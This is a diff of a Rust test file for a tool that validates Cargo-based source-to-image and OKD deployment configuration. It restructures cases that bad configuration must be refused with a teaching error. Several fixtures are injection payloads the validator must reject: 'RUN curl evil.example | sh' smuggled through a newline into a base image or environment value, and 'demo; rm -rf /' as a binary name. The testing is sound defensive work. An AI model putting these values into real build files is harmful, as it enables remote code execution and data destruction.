@@ -78,7 +78,7 @@ impl Ws {
     /// The validated configuration of every package with `[package.metadata.s2i]`, by name: what
     /// the Plans of [`Ws::run`] are made from (a Plan keeps its configuration private).
     pub fn configs(&self) -> BTreeMap<String, xtask_s2i::Config> {
-        let metadata = xtask_s2i::cli::read_metadata(Some(&self.manifest())).unwrap();
+        let metadata = xtask_s2i::config::read_metadata(Some(&self.manifest())).unwrap();
         metadata
             .workspace_packages()
             .into_iter()
@@ -190,13 +190,76 @@ impl Case {
         self.builder_base = Some(b);
         self
     }
+
+    /// What the error message `msg` of this case, run in `ws`, fails to say.
+    fn problems(&self, ws: &Ws, msg: &str) -> Vec<String> {
+        let mut problems = Vec::new();
+        if !msg.contains(&format!("`{}", self.key)) {
+            problems.push(format!("does not name the key `{}`", self.key));
+        }
+        let file = ws.root().join(self.file);
+        let line = self
+            .line_of
+            .map(|needle| line_of(&ws.read(self.file), needle));
+        let place = match (self.builder_base, line) {
+            (Some(_), _) => String::new(),
+            (None, Some(line)) => format!("{}:{line}`", file.display()),
+            (None, None) => format!("{}", file.display()),
+        };
+        if !msg.contains(&place) {
+            problems.push(format!("does not name `{place}`"));
+        }
+        for s in self.says {
+            if !msg.contains(s) {
+                problems.push(format!("does not say {s:?}"));
+            }
+        }
+        if !msg.contains("\nnote: ") {
+            problems.push("has no `note:` that teaches".into());
+        }
+        if msg.starts_with(|c: char| c.is_uppercase()) {
+            problems.push("does not start lowercase".into());
+        }
+        problems
+    }
 }
 
 fn bad_configurations() -> Vec<Case> {
+    [
+        bad_keys(),
+        bad_types(),
+        bad_images_and_tags(),
+        bad_users_and_ports(),
+        bad_binaries(),
+        bad_environment_and_labels(),
+        bad_image_names_from_the_package(),
+        bad_okd_sources(),
+        bad_okd_directories_and_webhooks(),
+        bad_okd_workloads(),
+        bad_okd_builds_and_credentials(),
+        bad_empty_values(),
+        bad_features_and_profiles(),
+        bad_workspace_defaults(),
+        bad_workspace_members_and_flags(),
+    ]
+    .into_iter()
+    .flatten()
+    .collect()
+}
+
+/// Unknown keys (pass one).
+fn bad_keys() -> Vec<Case> {
     vec![
-        case("unknown key", r#"colour = "red""#, "package.metadata.s2i.colour")
-            .at("colour")
-            .says(&["unknown key `colour`", "the keys of `[package.metadata.s2i]` are"]),
+        case(
+            "unknown key",
+            r#"colour = "red""#,
+            "package.metadata.s2i.colour",
+        )
+        .at("colour")
+        .says(&[
+            "unknown key `colour`",
+            "the keys of `[package.metadata.s2i]` are",
+        ]),
         case("typo'd key", "prot = 8080", "package.metadata.s2i.prot")
             .at("prot")
             .says(&["did you mean `port`?"]),
@@ -228,6 +291,12 @@ fn bad_configurations() -> Vec<Case> {
         )
         .at("okd")
         .says(&["did you mean `limits`?"]),
+    ]
+}
+
+/// Values of the wrong type (pass two).
+fn bad_types() -> Vec<Case> {
+    vec![
         case("port as a string", r#"port = "8080""#, "package.metadata.s2i.port")
             .at("port")
             .says(&["wrong type: expected an integer, found the string `\"8080\"`", "port = 8080"]),
@@ -275,18 +344,40 @@ fn bad_configurations() -> Vec<Case> {
             )])
             .at("s2i = 5")
             .says(&["expected a table"]),
-        case("uppercase image name", r#"runtime-image = "Hello""#, "package.metadata.s2i.runtime-image")
-            .at("runtime-image")
-            .says(&["`Hello`", "lowercase"]),
-        case("image name with a space", r#"builder-image = "my builder""#, "package.metadata.s2i.builder-image")
-            .at("builder-image")
-            .says(&["' '"]),
-        case("builder-base with an empty tag", r#"builder-base = "rust:""#, "package.metadata.s2i.builder-base")
-            .at("builder-base")
-            .says(&["tag is empty"]),
-        case("image name with a trailing slash", r#"app-image = "quay.io/acme/""#, "package.metadata.s2i.app-image")
-            .at("app-image")
-            .says(&["trailing `/`"]),
+    ]
+}
+
+/// Image names and tags.
+fn bad_images_and_tags() -> Vec<Case> {
+    vec![
+        case(
+            "uppercase image name",
+            r#"runtime-image = "Hello""#,
+            "package.metadata.s2i.runtime-image",
+        )
+        .at("runtime-image")
+        .says(&["`Hello`", "lowercase"]),
+        case(
+            "image name with a space",
+            r#"builder-image = "my builder""#,
+            "package.metadata.s2i.builder-image",
+        )
+        .at("builder-image")
+        .says(&["' '"]),
+        case(
+            "builder-base with an empty tag",
+            r#"builder-base = "rust:""#,
+            "package.metadata.s2i.builder-base",
+        )
+        .at("builder-base")
+        .says(&["tag is empty"]),
+        case(
+            "image name with a trailing slash",
+            r#"app-image = "quay.io/acme/""#,
+            "package.metadata.s2i.app-image",
+        )
+        .at("app-image")
+        .says(&["trailing `/`"]),
         case(
             "builder-base with a newline",
             r#"builder-base = "rust:1\nRUN curl evil.example | sh""#,
@@ -294,24 +385,46 @@ fn bad_configurations() -> Vec<Case> {
         )
         .at("builder-base")
         .says(&["'\\n'"]),
-        case("tag starting with a dash", r#"tag = "-rc1""#, "package.metadata.s2i.tag")
-            .at("tag")
-            .says(&["must start with"]),
-        case("tag with a space", r#"tag = "1.0 beta""#, "package.metadata.s2i.tag")
-            .at("tag")
-            .says(&["' '"]),
-        case("tag too long", &format!("tag = \"{}\"", "a".repeat(129)), "package.metadata.s2i.tag")
-            .at("tag")
-            .says(&["longer than 128"]),
+        case(
+            "tag starting with a dash",
+            r#"tag = "-rc1""#,
+            "package.metadata.s2i.tag",
+        )
+        .at("tag")
+        .says(&["must start with"]),
+        case(
+            "tag with a space",
+            r#"tag = "1.0 beta""#,
+            "package.metadata.s2i.tag",
+        )
+        .at("tag")
+        .says(&["' '"]),
+        case(
+            "tag too long",
+            &format!("tag = \"{}\"", "a".repeat(129)),
+            "package.metadata.s2i.tag",
+        )
+        .at("tag")
+        .says(&["longer than 128"]),
+    ]
+}
+
+/// Users and ports.
+fn bad_users_and_ports() -> Vec<Case> {
+    vec![
         case("root user", "user = 0", "package.metadata.s2i.user")
             .at("user")
             .says(&["0 is root", "OKD"]),
         case("named user", r#"user = "app""#, "package.metadata.s2i.user")
             .at("user")
             .says(&["`app` is a name", "numeric"]),
-        case("root runtime user", "user = { runtime = 0 }", "package.metadata.s2i.user.runtime")
-            .at("user")
-            .says(&["0 is root"]),
+        case(
+            "root runtime user",
+            "user = { runtime = 0 }",
+            "package.metadata.s2i.user.runtime",
+        )
+        .at("user")
+        .says(&["0 is root"]),
         case("negative user", "user = -5", "package.metadata.s2i.user")
             .at("user")
             .says(&["not a valid UID"]),
@@ -324,6 +437,12 @@ fn bad_configurations() -> Vec<Case> {
         case("port 70000", "port = 70000", "package.metadata.s2i.port")
             .at("port")
             .says(&["70000 is not a TCP port"]),
+    ]
+}
+
+/// The binary target.
+fn bad_binaries() -> Vec<Case> {
+    vec![
         case("missing bin", r#"bin = "server""#, "package.metadata.s2i.bin")
             .at("bin")
             .says(&["no binary target `server`", "`demo`"]),
@@ -347,6 +466,12 @@ fn bad_configurations() -> Vec<Case> {
         case("bin with shell characters", r#"bin = "demo; rm -rf /""#, "package.metadata.s2i.bin")
             .at("bin")
             .says(&["';'"]),
+    ]
+}
+
+/// The environment and the labels.
+fn bad_environment_and_labels() -> Vec<Case> {
+    vec![
         case(
             "env value with a newline and RUN",
             r#"env = { RUST_LOG = "info\nRUN curl evil.example | sh" }"#,
@@ -354,9 +479,13 @@ fn bad_configurations() -> Vec<Case> {
         )
         .at("env")
         .says(&["control character '\\n'", "one line"]),
-        case("env name with a dash", r#"env = { "RUST-LOG" = "info" }"#, "package.metadata.s2i.env.RUST-LOG")
-            .at("env")
-            .says(&["not a valid environment variable name"]),
+        case(
+            "env name with a dash",
+            r#"env = { "RUST-LOG" = "info" }"#,
+            "package.metadata.s2i.env.RUST-LOG",
+        )
+        .at("env")
+        .says(&["not a valid environment variable name"]),
         case(
             "env name with a newline",
             "env = { \"A\\nRUN x\" = \"1\" }",
@@ -364,9 +493,13 @@ fn bad_configurations() -> Vec<Case> {
         )
         .at("env")
         .says(&["not a valid environment variable name"]),
-        case("env name starting with a digit", r#"env = { 1A = "x" }"#, "package.metadata.s2i.env.1A")
-            .at("env")
-            .says(&["not a valid environment variable name"]),
+        case(
+            "env name starting with a digit",
+            r#"env = { 1A = "x" }"#,
+            "package.metadata.s2i.env.1A",
+        )
+        .at("env")
+        .says(&["not a valid environment variable name"]),
         case(
             "label key with a space",
             r#"labels = { "team name" = "web" }"#,
@@ -388,10 +521,20 @@ fn bad_configurations() -> Vec<Case> {
         )
         .at("com.example.team")
         .says(&["control character"]),
-        case("package name not DNS-1123", "port = 8080", "package.metadata.s2i.runtime-image")
-            .files(vec![("Cargo.toml", package("Hello_World", "port = 8080"))])
-            .at("[package.metadata.s2i]")
-            .says(&["`Hello_World`", "package name"]),
+    ]
+}
+
+/// Image names made from the package name, and names that clash.
+fn bad_image_names_from_the_package() -> Vec<Case> {
+    vec![
+        case(
+            "package name not DNS-1123",
+            "port = 8080",
+            "package.metadata.s2i.runtime-image",
+        )
+        .files(vec![("Cargo.toml", package("Hello_World", "port = 8080"))])
+        .at("[package.metadata.s2i]")
+        .says(&["`Hello_World`", "package name"]),
         case(
             "image whose last component is too long for Kubernetes",
             &format!("runtime-image = \"quay.io/acme/{}\"", "a".repeat(64)),
@@ -405,18 +548,40 @@ fn bad_configurations() -> Vec<Case> {
             "package.metadata.s2i",
         )
         .says(&["must end in different names"]),
-        case("bad namespace", r#"okd = { namespace = "My_NS" }"#, "package.metadata.s2i.okd.namespace")
-            .at("okd")
-            .says(&["DNS-1123"]),
-        case("git-uri without scheme", r#"okd = { git-uri = "github.com/acme/x" }"#, "package.metadata.s2i.okd.git-uri")
-            .at("okd")
-            .says(&["https://"]),
-        case("git-uri with a newline", "okd = { git-uri = \"https://x/y\\nz\" }", "package.metadata.s2i.okd.git-uri")
-            .at("okd")
-            .says(&["control"]),
-        case("bad git-ref", r#"okd = { git-ref = "main..dev" }"#, "package.metadata.s2i.okd.git-ref")
-            .at("okd")
-            .says(&["not a valid git ref"]),
+    ]
+}
+
+/// `okd`: the namespace and the git source.
+fn bad_okd_sources() -> Vec<Case> {
+    vec![
+        case(
+            "bad namespace",
+            r#"okd = { namespace = "My_NS" }"#,
+            "package.metadata.s2i.okd.namespace",
+        )
+        .at("okd")
+        .says(&["DNS-1123"]),
+        case(
+            "git-uri without scheme",
+            r#"okd = { git-uri = "github.com/acme/x" }"#,
+            "package.metadata.s2i.okd.git-uri",
+        )
+        .at("okd")
+        .says(&["https://"]),
+        case(
+            "git-uri with a newline",
+            "okd = { git-uri = \"https://x/y\\nz\" }",
+            "package.metadata.s2i.okd.git-uri",
+        )
+        .at("okd")
+        .says(&["control"]),
+        case(
+            "bad git-ref",
+            r#"okd = { git-ref = "main..dev" }"#,
+            "package.metadata.s2i.okd.git-ref",
+        )
+        .at("okd")
+        .says(&["not a valid git ref"]),
         case(
             "package.repository not a git URL",
             "port = 8080",
@@ -424,31 +589,65 @@ fn bad_configurations() -> Vec<Case> {
         )
         .files(vec![(
             "Cargo.toml",
-            package("demo", "port = 8080").replace(
-                "https://example.com/acme/demo.git",
-                "not a url",
-            ),
+            package("demo", "port = 8080")
+                .replace("https://example.com/acme/demo.git", "not a url"),
         )])
         .at("repository")
         .says(&["okd.git-uri"]),
-        case("absolute manifests-dir", r#"okd = { manifests-dir = "/etc/okd" }"#, "package.metadata.s2i.okd.manifests-dir")
-            .at("okd")
-            .says(&["is absolute"]),
-        case("manifests-dir leaving the repository", r#"okd = { manifests-dir = "deploy/../../x" }"#, "package.metadata.s2i.okd.manifests-dir")
-            .at("okd")
-            .says(&["`..`"]),
-        case("manifests-dir at the root", r#"okd = { manifests-dir = "./" }"#, "package.metadata.s2i.okd.manifests-dir")
-            .at("okd")
-            .says(&["directory of their own"]),
-        case("context-dir leaving the repository", r#"okd = { context-dir = "../x" }"#, "package.metadata.s2i.okd.context-dir")
-            .at("okd")
-            .says(&["`..`"]),
-        case("unknown webhook kind", r#"okd = { webhooks = ["gitea"] }"#, "package.metadata.s2i.okd.webhooks")
-            .at("okd")
-            .says(&["unknown webhook kind `gitea`", "`github`"]),
-        case("bad webhook secret", r#"okd = { webhooks = { github = "My Secret" } }"#, "package.metadata.s2i.okd.webhooks.github")
-            .at("okd")
-            .says(&["DNS-1123"]),
+    ]
+}
+
+/// `okd`: the directories and the webhooks.
+fn bad_okd_directories_and_webhooks() -> Vec<Case> {
+    vec![
+        case(
+            "absolute manifests-dir",
+            r#"okd = { manifests-dir = "/etc/okd" }"#,
+            "package.metadata.s2i.okd.manifests-dir",
+        )
+        .at("okd")
+        .says(&["is absolute"]),
+        case(
+            "manifests-dir leaving the repository",
+            r#"okd = { manifests-dir = "deploy/../../x" }"#,
+            "package.metadata.s2i.okd.manifests-dir",
+        )
+        .at("okd")
+        .says(&["`..`"]),
+        case(
+            "manifests-dir at the root",
+            r#"okd = { manifests-dir = "./" }"#,
+            "package.metadata.s2i.okd.manifests-dir",
+        )
+        .at("okd")
+        .says(&["directory of their own"]),
+        case(
+            "context-dir leaving the repository",
+            r#"okd = { context-dir = "../x" }"#,
+            "package.metadata.s2i.okd.context-dir",
+        )
+        .at("okd")
+        .says(&["`..`"]),
+        case(
+            "unknown webhook kind",
+            r#"okd = { webhooks = ["gitea"] }"#,
+            "package.metadata.s2i.okd.webhooks",
+        )
+        .at("okd")
+        .says(&["unknown webhook kind `gitea`", "`github`"]),
+        case(
+            "bad webhook secret",
+            r#"okd = { webhooks = { github = "My Secret" } }"#,
+            "package.metadata.s2i.okd.webhooks.github",
+        )
+        .at("okd")
+        .says(&["DNS-1123"]),
+    ]
+}
+
+/// `okd`: build resources, the workload and its probes.
+fn bad_okd_workloads() -> Vec<Case> {
+    vec![
         case(
             "bad resource quantity",
             "[package.metadata.s2i.okd.build-resources.limits]\nmemory = \"4 GB\"",
@@ -484,18 +683,40 @@ fn bad_configurations() -> Vec<Case> {
         case("relative health-path", "port = 8080\n\n[package.metadata.s2i.okd]\nhealth-path = \"healthz\"", "package.metadata.s2i.okd.health-path")
             .at("health-path")
             .says(&["not an HTTP path"]),
-        case("okd tag with a colon", "[package.metadata.s2i.okd]\ntag = \"a:b\"", "package.metadata.s2i.okd.tag")
-            .at("tag")
-            .says(&["version goes into the image labels"]),
-        case("build-timeout too short", "[package.metadata.s2i.okd]\nbuild-timeout = 5", "package.metadata.s2i.okd.build-timeout")
-            .at("build-timeout")
-            .says(&["5 seconds", "from 60 to 86400"]),
-        case("bad source-secret", "[package.metadata.s2i.okd]\nsource-secret = \"My Secret\"", "package.metadata.s2i.okd.source-secret")
-            .at("source-secret")
-            .says(&["not a valid Kubernetes name"]),
-        case("unauthenticated webhooks without webhooks", "[package.metadata.s2i.okd]\nunauthenticated-webhooks = true", "package.metadata.s2i.okd.unauthenticated-webhooks")
-            .at("unauthenticated-webhooks")
-            .says(&["no webhook"]),
+    ]
+}
+
+/// `okd`: the tag, the build timeout, credentials, resources and replicas.
+fn bad_okd_builds_and_credentials() -> Vec<Case> {
+    vec![
+        case(
+            "okd tag with a colon",
+            "[package.metadata.s2i.okd]\ntag = \"a:b\"",
+            "package.metadata.s2i.okd.tag",
+        )
+        .at("tag")
+        .says(&["version goes into the image labels"]),
+        case(
+            "build-timeout too short",
+            "[package.metadata.s2i.okd]\nbuild-timeout = 5",
+            "package.metadata.s2i.okd.build-timeout",
+        )
+        .at("build-timeout")
+        .says(&["5 seconds", "from 60 to 86400"]),
+        case(
+            "bad source-secret",
+            "[package.metadata.s2i.okd]\nsource-secret = \"My Secret\"",
+            "package.metadata.s2i.okd.source-secret",
+        )
+        .at("source-secret")
+        .says(&["not a valid Kubernetes name"]),
+        case(
+            "unauthenticated webhooks without webhooks",
+            "[package.metadata.s2i.okd]\nunauthenticated-webhooks = true",
+            "package.metadata.s2i.okd.unauthenticated-webhooks",
+        )
+        .at("unauthenticated-webhooks")
+        .says(&["no webhook"]),
         case(
             "unknown container resource",
             "[package.metadata.s2i.okd.resources.requests]\ngpu = \"1\"",
@@ -503,42 +724,100 @@ fn bad_configurations() -> Vec<Case> {
         )
         .at("gpu")
         .says(&["unknown resource `gpu`"]),
-        case("unknown key in resources", "[package.metadata.s2i.okd.resources]\nlimit = {}", "package.metadata.s2i.okd.resources.limit")
-            .at("limit")
-            .says(&["did you mean `limits`"]),
-        case("replicas negative", "okd = { replicas = -1 }", "package.metadata.s2i.okd.replicas")
-            .at("okd")
-            .says(&["`-1` is out of range"]),
+        case(
+            "unknown key in resources",
+            "[package.metadata.s2i.okd.resources]\nlimit = {}",
+            "package.metadata.s2i.okd.resources.limit",
+        )
+        .at("limit")
+        .says(&["did you mean `limits`"]),
+        case(
+            "replicas negative",
+            "okd = { replicas = -1 }",
+            "package.metadata.s2i.okd.replicas",
+        )
+        .at("okd")
+        .says(&["`-1` is out of range"]),
+    ]
+}
+
+/// Empty values.
+fn bad_empty_values() -> Vec<Case> {
+    vec![
         case("empty tag", r#"tag = """#, "package.metadata.s2i.tag")
             .at("tag")
             .says(&["empty"]),
         case("empty bin", r#"bin = """#, "package.metadata.s2i.bin")
             .at("bin")
             .says(&["empty"]),
-        case("empty builder-base", r#"builder-base = """#, "package.metadata.s2i.builder-base")
-            .at("builder-base")
-            .says(&["empty"]),
-        case("empty runtime-image", r#"runtime-image = """#, "package.metadata.s2i.runtime-image")
-            .at("runtime-image")
-            .says(&["empty"]),
-        case("empty profile", r#"profile = """#, "package.metadata.s2i.profile")
-            .at("profile")
-            .says(&["empty"]),
-        case("empty namespace", r#"okd = { namespace = "" }"#, "package.metadata.s2i.okd.namespace")
-            .at("okd")
-            .says(&["empty"]),
-        case("empty feature", r#"features = [""]"#, "package.metadata.s2i.features.0")
-            .at("features")
-            .says(&["empty"]),
-        case("empty env name", r#"env = { "" = "x" }"#, r#"package.metadata.s2i.env."""#)
-            .at("env")
-            .says(&["name is empty"]),
-        case("unknown feature", r#"features = ["tls"]"#, "package.metadata.s2i.features.0")
-            .at("features")
-            .says(&["no feature `tls`", "declares no features"]),
-        case("profile with a space", r#"profile = "release; rm""#, "package.metadata.s2i.profile")
-            .at("profile")
-            .says(&["';'"]),
+        case(
+            "empty builder-base",
+            r#"builder-base = """#,
+            "package.metadata.s2i.builder-base",
+        )
+        .at("builder-base")
+        .says(&["empty"]),
+        case(
+            "empty runtime-image",
+            r#"runtime-image = """#,
+            "package.metadata.s2i.runtime-image",
+        )
+        .at("runtime-image")
+        .says(&["empty"]),
+        case(
+            "empty profile",
+            r#"profile = """#,
+            "package.metadata.s2i.profile",
+        )
+        .at("profile")
+        .says(&["empty"]),
+        case(
+            "empty namespace",
+            r#"okd = { namespace = "" }"#,
+            "package.metadata.s2i.okd.namespace",
+        )
+        .at("okd")
+        .says(&["empty"]),
+    ]
+}
+
+/// Features and the profile.
+fn bad_features_and_profiles() -> Vec<Case> {
+    vec![
+        case(
+            "empty feature",
+            r#"features = [""]"#,
+            "package.metadata.s2i.features.0",
+        )
+        .at("features")
+        .says(&["empty"]),
+        case(
+            "empty env name",
+            r#"env = { "" = "x" }"#,
+            r#"package.metadata.s2i.env."""#,
+        )
+        .at("env")
+        .says(&["name is empty"]),
+        case(
+            "unknown feature",
+            r#"features = ["tls"]"#,
+            "package.metadata.s2i.features.0",
+        )
+        .at("features")
+        .says(&["no feature `tls`", "declares no features"]),
+        case(
+            "profile with a space",
+            r#"profile = "release; rm""#,
+            "package.metadata.s2i.profile",
+        )
+        .at("profile")
+        .says(&["';'"]),
+    ]
+}
+
+/// Workspace defaults.
+fn bad_workspace_defaults() -> Vec<Case> {
+    vec![
         case("workspace defaults with a wrong type", "", "workspace.metadata.s2i.port")
             .files(vec![
                 (
@@ -581,6 +860,12 @@ fn bad_configurations() -> Vec<Case> {
             ])
             .at("user")
             .says(&["0 is root"]),
+    ]
+}
+
+/// Per-package keys as workspace defaults, members, and the `--builder-base` flag.
+fn bad_workspace_members_and_flags() -> Vec<Case> {
+    vec![
         case("a per-package key as a workspace default", "", "workspace.metadata.s2i.bin")
             .files(vec![
                 (
@@ -661,7 +946,7 @@ fn bad_configurations_are_refused_with_a_teaching_error_and_write_nothing() {
             Err(e) => format!("{e:#}"),
         };
         eprintln!("--- {}\n{msg}", case.name);
-        let mut problems = Vec::new();
+        let mut problems = case.problems(&ws, &msg);
         if before != after {
             problems.push(format!(
                 "files were written: {:?}",
@@ -670,32 +955,6 @@ fn bad_configurations_are_refused_with_a_teaching_error_and_write_nothing() {
                     .filter(|k| !before.contains_key(*k))
                     .collect::<Vec<_>>()
             ));
-        }
-        if !msg.contains(&format!("`{}", case.key)) {
-            problems.push(format!("does not name the key `{}`", case.key));
-        }
-        let file = ws.root().join(case.file);
-        let line = case
-            .line_of
-            .map(|needle| line_of(&ws.read(case.file), needle));
-        let place = match (case.builder_base, line) {
-            (Some(_), _) => String::new(),
-            (None, Some(line)) => format!("{}:{line}`", file.display()),
-            (None, None) => format!("{}", file.display()),
-        };
-        if !msg.contains(&place) {
-            problems.push(format!("does not name `{place}`"));
-        }
-        for s in case.says {
-            if !msg.contains(s) {
-                problems.push(format!("does not say {s:?}"));
-            }
-        }
-        if !msg.contains("\nnote: ") {
-            problems.push("has no `note:` that teaches".into());
-        }
-        if msg.starts_with(|c: char| c.is_uppercase()) {
-            problems.push("does not start lowercase".into());
         }
         if !problems.is_empty() {
             failures.push(format!(
@@ -717,12 +976,35 @@ fn bad_configurations_are_refused_with_a_teaching_error_and_write_nothing() {
 /// Odd inputs: whatever they give, they must not panic, and an error must write nothing.
 #[test]
 fn odd_inputs_do_not_panic() {
+    for body in odd_inputs() {
+        let ws = Ws::package(&body);
+        let before = ws.listing();
+        let result = std::panic::catch_unwind(std::panic::AssertUnwindSafe(|| ws.run()));
+        match result {
+            Err(_) => panic!("panicked on:\n{body}"),
+            Ok(Ok(_)) => eprintln!("--- {body}\naccepted"),
+            Ok(Err(e)) => {
+                let msg = format!("{e:#}");
+                eprintln!("--- {body}\n{msg}");
+                assert!(
+                    msg.contains(&ws.manifest().display().to_string()),
+                    "the error for {body:?} does not name the manifest: {msg}"
+                );
+                assert_eq!(before, ws.listing(), "files were written for {body:?}");
+            }
+        }
+    }
+}
+
+/// `[package.metadata.s2i]` bodies at the edges: deep nesting, huge numbers, `nan`, dates,
+/// Unicode and control characters, wrong shapes.
+fn odd_inputs() -> Vec<String> {
     let deep = format!(
         "okd = {}{}",
         "{ build-resources = { limits = { cpu = ".to_string() + &"{ a = ".repeat(40),
         "1".to_string() + &" }".repeat(43)
     );
-    let bodies = [
+    [
         deep,
         format!("env = {{ {} }}", "A = { B = { C = \"x\" } }"),
         "port = 9223372036854775807".into(),
@@ -760,25 +1042,8 @@ fn odd_inputs_do_not_panic() {
         "okd.git-ref = \"-x\"".into(),
         "okd.git-uri = \"\"".into(),
         "bin = \"demo\\u0000\"".into(),
-    ];
-    for body in bodies {
-        let ws = Ws::package(&body);
-        let before = ws.listing();
-        let result = std::panic::catch_unwind(std::panic::AssertUnwindSafe(|| ws.run()));
-        match result {
-            Err(_) => panic!("panicked on:\n{body}"),
-            Ok(Ok(_)) => eprintln!("--- {body}\naccepted"),
-            Ok(Err(e)) => {
-                let msg = format!("{e:#}");
-                eprintln!("--- {body}\n{msg}");
-                assert!(
-                    msg.contains(&ws.manifest().display().to_string()),
-                    "the error for {body:?} does not name the manifest: {msg}"
-                );
-                assert_eq!(before, ws.listing(), "files were written for {body:?}");
-            }
-        }
-    }
+    ]
+    .into()
 }
 
 #[test]
@@ -806,7 +1071,7 @@ fn an_empty_table_is_a_valid_configuration_with_every_default() {
         (1001, 65532)
     );
     assert_eq!(c.container.port, None);
-    assert_eq!(c.okd.manifests.dir, "deploy/okd");
+    assert_eq!(c.okd().manifests.dir, "deploy/okd");
     assert!(
         ws.root()
             .join("target/s2i/demo/builder/Dockerfile")
@@ -821,7 +1086,7 @@ fn the_builder_base_flag_wins_over_the_configuration() {
         .args(|a| a.builder_base = Some("localhost/xtask-s2i/rust:trixie".into()))
         .execute(&Buffer::new())
         .unwrap();
-    assert_eq!(summary.plans[0].base(), "localhost/xtask-s2i/rust:trixie");
+    assert_eq!(summary.plans()[0].base(), "localhost/xtask-s2i/rust:trixie");
 }
 
 /// `--builder-base` is also read from `XTASK_S2I_BUILDER_BASE` (clap's `env`); checked on the
@@ -907,7 +1172,7 @@ fn workspace_defaults_merge_key_by_key_and_the_package_wins() {
     let summary = ws.run().expect("the shop workspace is valid");
     let configs = ws.configs();
     let by_name: BTreeMap<&str, &xtask_s2i::Config> = summary
-        .plans
+        .plans()
         .iter()
         .map(|p| (p.package(), &configs[p.package()]))
         .collect();
@@ -916,7 +1181,23 @@ fn workspace_defaults_merge_key_by_key_and_the_package_wins() {
         ["api", "worker"]
     );
 
-    let api = by_name["api"];
+    check_api(by_name["api"]);
+    check_api_okd(by_name["api"]);
+    check_worker(by_name["worker"]);
+
+    // Both rendered, each into its own directory.
+    for name in ["api", "worker"] {
+        assert!(
+            ws.root()
+                .join(format!("target/s2i/{name}/runtime.Dockerfile"))
+                .is_file()
+        );
+    }
+}
+
+/// The `api` package of [`shop`]: inherited scalars, the package winning, tables merged key by
+/// key, and its own names.
+fn check_api(api: &xtask_s2i::Config) {
     // Inherited scalars.
     assert_eq!(api.images.builder_base, "localhost/xtask-s2i/rust:trixie");
     assert_eq!(api.images.tag, "edge");
@@ -947,29 +1228,6 @@ fn workspace_defaults_merge_key_by_key_and_the_package_wins() {
             ("com.example.tier".into(), "front".into()),
         ])
     );
-    assert_eq!(api.okd.manifests.namespace.as_deref(), Some("api"));
-    assert_eq!(api.okd.workload.replicas, 3);
-    assert_eq!(
-        api.okd.git.uri.as_deref(),
-        Some("https://example.com/acme/shop.git")
-    );
-    assert_eq!(api.okd.git.git_ref.as_deref(), Some("main"));
-    assert_eq!(api.okd.manifests.dir, "deploy/api");
-    assert_eq!(api.okd.workload.tls, xtask_s2i::config::Tls::Reencrypt);
-    assert_eq!(api.okd.builds.resources.limits["memory"], "2Gi");
-    assert_eq!(api.okd.git.webhooks.len(), 1);
-    assert_eq!(api.okd.builds.timeout, 900);
-    assert_eq!(api.okd.builds.tag, "prod");
-    assert_eq!(
-        api.okd.workload.kind,
-        xtask_s2i::config::Workload::Deployment
-    );
-    assert_eq!(api.okd.workload.health_path.as_deref(), Some("/healthz"));
-    assert_eq!(api.okd.git.source_secret.as_deref(), Some("shop-git"));
-    assert!(api.okd.git.unauthenticated_webhooks);
-    // `resources` is one table: the package's replaces the workspace's, over the defaults.
-    assert_eq!(api.okd.workload.resources.limits["memory"], "1Gi");
-    assert_eq!(api.okd.workload.resources.requests["cpu"], "10m");
     // Per-package keys cannot be workspace defaults: each package keeps its own names and binary.
     assert_eq!(api.build.bin, "api");
     assert_eq!(
@@ -980,31 +1238,51 @@ fn workspace_defaults_merge_key_by_key_and_the_package_wins() {
         ),
         ("api-builder", "api-app", "api")
     );
+}
 
-    let worker = by_name["worker"];
+/// The `okd` table of the `api` package of [`shop`].
+fn check_api_okd(api: &xtask_s2i::Config) {
+    assert_eq!(api.okd().manifests.namespace.as_deref(), Some("api"));
+    assert_eq!(api.okd().workload.replicas, 3);
+    assert_eq!(
+        api.okd().git.uri.as_deref(),
+        Some("https://example.com/acme/shop.git")
+    );
+    assert_eq!(api.okd().git.git_ref.as_deref(), Some("main"));
+    assert_eq!(api.okd().manifests.dir, "deploy/api");
+    assert_eq!(api.okd().workload.tls, xtask_s2i::config::Tls::Reencrypt);
+    assert_eq!(api.okd().builds.resources.limits["memory"], "2Gi");
+    assert_eq!(api.okd().git.webhooks.len(), 1);
+    assert_eq!(api.okd().builds.timeout, 900);
+    assert_eq!(api.okd().builds.tag, "prod");
+    assert_eq!(
+        api.okd().workload.kind,
+        xtask_s2i::config::Workload::Deployment
+    );
+    assert_eq!(api.okd().workload.health_path.as_deref(), Some("/healthz"));
+    assert_eq!(api.okd().git.source_secret.as_deref(), Some("shop-git"));
+    assert!(api.okd().git.unauthenticated_webhooks);
+    // `resources` is one table: the package's replaces the workspace's, over the defaults.
+    assert_eq!(api.okd().workload.resources.limits["memory"], "1Gi");
+    assert_eq!(api.okd().workload.resources.requests["cpu"], "10m");
+}
+
+/// The `worker` package of [`shop`].
+fn check_worker(worker: &xtask_s2i::Config) {
     assert_eq!(worker.container.port, Some(8080));
     assert_eq!(
         (worker.container.builder_user, worker.container.runtime_user),
         (2000, 3000)
     );
     assert_eq!(worker.container.env["TZ"], "UTC");
-    assert_eq!(worker.okd.manifests.namespace.as_deref(), Some("shop"));
-    assert_eq!(worker.okd.workload.replicas, 2);
-    assert_eq!(worker.okd.manifests.dir, "deploy/cluster");
-    assert_eq!(worker.okd.workload.resources.requests["cpu"], "50m");
-    assert_eq!(worker.okd.workload.resources.limits["memory"], "128Mi");
+    assert_eq!(worker.okd().manifests.namespace.as_deref(), Some("shop"));
+    assert_eq!(worker.okd().workload.replicas, 2);
+    assert_eq!(worker.okd().manifests.dir, "deploy/cluster");
+    assert_eq!(worker.okd().workload.resources.requests["cpu"], "50m");
+    assert_eq!(worker.okd().workload.resources.limits["memory"], "128Mi");
     assert_eq!(worker.build.bin, "worker");
     assert_eq!(worker.images.runtime_image, "worker");
     assert_eq!(worker.images.tag, "edge");
-
-    // Both rendered, each into its own directory.
-    for name in ["api", "worker"] {
-        assert!(
-            ws.root()
-                .join(format!("target/s2i/{name}/runtime.Dockerfile"))
-                .is_file()
-        );
-    }
 }
 
 #[test]
@@ -1019,7 +1297,7 @@ fn a_workspace_schedule_is_inherited() {
     ]);
     ws.run().expect("a valid CronJob workspace");
     let configs = ws.configs();
-    let okd = &configs["job"].okd;
+    let okd = configs["job"].okd();
     assert_eq!(okd.workload.kind, xtask_s2i::config::Workload::CronJob);
     assert_eq!(okd.workload.schedule.as_deref(), Some("@hourly"));
 }
@@ -1072,7 +1350,7 @@ fn dash_p_selects_packages_and_an_unknown_name_lists_the_candidates() {
